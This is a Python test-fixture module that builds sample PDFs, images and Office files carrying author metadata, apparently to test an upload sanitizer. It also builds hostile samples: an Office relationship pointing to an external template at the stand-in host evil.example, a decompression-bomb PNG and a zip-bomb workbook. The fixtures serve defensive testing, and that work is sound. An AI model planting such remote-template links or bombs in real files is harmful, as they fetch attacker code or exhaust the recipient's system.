"""Files as people and attackers hand them in, made here: each a real one of its kind."""

import io
import zipfile
import zlib
from typing import Any

import pikepdf
from PIL import Image

SOMEBODY = "作成 担当者"
"""Whose name no file may still have once it is stored."""
OOXML = {
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
ZIP_HEAD = "application/vnd.openxmlformats-officedocument."


def pdf(encryption: Any = None, change: Any = None) -> bytes:
    """One empty page, with an author in its information and in its XMP."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(200, 200))
        made.docinfo["/Author"] = SOMEBODY
        with made.open_metadata(set_pikepdf_as_editor=False) as xmp:
            xmp["dc:creator"] = [SOMEBODY]
        if change:
            change(made)
        made.save(out, encryption=encryption or False)
    return out.getvalue()


def picture(kind: str = "JPEG", orientation: int | None = None, **more: Any) -> bytes:
    """Twenty by ten points, the left half red; with where and with what it was taken."""
    image = Image.new("RGB", (20, 10), "white")
    image.paste((200, 0, 0), (0, 0, 10, 10))
    exif = Image.Exif()
    exif[0x010F] = "CAMERA OF SOMEBODY"
    exif.get_ifd(0x8825)[1] = "N"
    if orientation:
        exif[0x0112] = orientation
    out = io.BytesIO()
    image.save(out, kind, exif=exif, **more)
    return out.getvalue()


def moving() -> bytes:
    frames = [Image.new("RGB", (4, 4), c) for c in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def huge_picture() -> bytes:
    """A PNG of 30,000 × 30,000 points in a few hundred bytes: only its head is read."""
    small = picture("PNG")
    head = b"IHDR" + (30_000).to_bytes(4, "big") * 2 + small[24:29]
    return small[:12] + head + zlib.crc32(head).to_bytes(4, "big") + small[33:]


def zipped(parts: dict[str, bytes | str], **more: Any) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **more) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()


def office(kind: str = "xlsx", parts: dict[str, bytes | str] | None = None, content_type: str = "") -> bytes:
    """The smallest document of its kind, with its author, its company and a property of one's own."""
    main, name = OOXML[kind]
    content_type = content_type or f"{ZIP_HEAD}{name}.main+xml"
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f"<dc:title>調査</dc:title><dc:creator>{SOMEBODY}</dc:creator><cp:lastModifiedBy>{SOMEBODY}</cp:lastModifiedBy>"
        '<dcterms:created xsi:type="dcterms:W3CDTF">2026-04-01T00:00:00Z</dcterms:created></cp:coreProperties>'
    )
    custom = "http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"
    whole: dict[str, bytes | str] = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{main}" ContentType="{content_type}"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
        main: "<main/>",
        "docProps/core.xml": core,
        "docProps/app.xml": f"<Properties><Company>{SOMEBODY}</Company><Pages>3</Pages></Properties>",
        "docProps/custom.xml": f'<Properties xmlns="{custom}"><property name="係">{SOMEBODY}</property></Properties>',
    }
    return zipped(whole | (parts or {}))


def sheet(rows: list[list[object]]) -> bytes:
    """A workbook of one sheet: texts, numbers, and None for an empty cell."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    of = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def cell(place: str, value: object) -> str:
        if value is None:
            return ""
        if isinstance(value, str):
            return f'<c r="{place}" t="inlineStr"><is><t>{value}</t></is></c>'
        return f'<c r="{place}"><v>{value}</v></c>'

    lines = "".join(
        f'<row r="{n}">{"".join(cell(f"{chr(65 + i)}{n}", v) for i, v in enumerate(row))}</row>'
        for n, row in enumerate(rows, 1)
    )
    related = "http://schemas.openxmlformats.org/package/2006/relationships"
    return office(
        "xlsx",
        {
            "_rels/.rels": f'<Relationships xmlns="{related}"><Relationship Id="r1" Type="{of}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{of}"><sheets><sheet name="測定" sheetId="1" r:id="r1"/>'
            "</sheets></workbook>",
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{related}"><Relationship Id="r1" Type="{of}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{lines}</sheetData></worksheet>',
        },
    )


def relation(kind: str, target: str = "https://evil.example/x.dotm") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )


def encrypted(data: bytes) -> bytes:
    """A zip whose entries say that they are encrypted, in both of their headers."""
    changed = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = changed.find(mark)
        while found >= 0:
            changed[found + at] |= 1
            found = changed.find(mark, found + 4)
    return bytes(changed)


def bomb(size: int = 210_000_000) -> bytes:
    """A workbook of a few hundred kilobytes that unpacks to more than is read of one."""
    return office("xlsx", {"xl/worksheets/sheet1.xml": b"0" * size})


OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ENCRYPTED_OFFICE = OLD_OFFICE + "EncryptedPackage".encode("utf-16-le")
